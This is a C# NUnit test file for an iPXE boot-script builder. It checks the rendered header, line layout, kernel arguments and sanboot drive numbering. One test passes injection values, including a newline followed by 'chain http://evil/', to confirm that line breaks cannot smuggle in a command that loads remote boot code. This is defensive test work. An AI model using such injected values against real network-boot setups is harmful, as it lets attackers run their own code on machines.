using Bifrost.Protocols.Ipxe;
using NUnit.Framework;

namespace Bifrost.Protocols.Tests;

public class IpxeScriptTests
{
    [Test]
    public void Script_starts_with_the_ipxe_magic_and_has_one_command_per_line() =>
        Assert.That(new IpxeScript().Echo("hi").Kernel("/k", "a=1 b").Initrd("/i").Boot().Render(),
            Is.EqualTo("#!ipxe\necho hi\nkernel /k a=1 b\ninitrd /i\nboot\n"));

    [Test]
    public void A_line_break_in_a_value_cannot_start_a_new_command() =>
        Assert.That(new IpxeScript().Echo("node\nshell\r").Kernel("/k", "x=1\nchain http://evil/").Render(),
            Is.EqualTo("#!ipxe\necho node shell\nkernel /k x=1 chain http://evil/\n"));

    [Test]
    public void Kernel_without_arguments_has_no_trailing_space() =>
        Assert.That(new IpxeScript().Kernel("/k", " ").Lines, Is.EqualTo(new[] { "kernel /k" }));

    [Test]
    public void Sanboot_names_the_drive_in_hex() =>
        Assert.That(new IpxeScript().SanbootLocalDisk(0x81).Lines, Is.EqualTo(new[] { "sanboot --no-describe --drive 0x81" }));
}
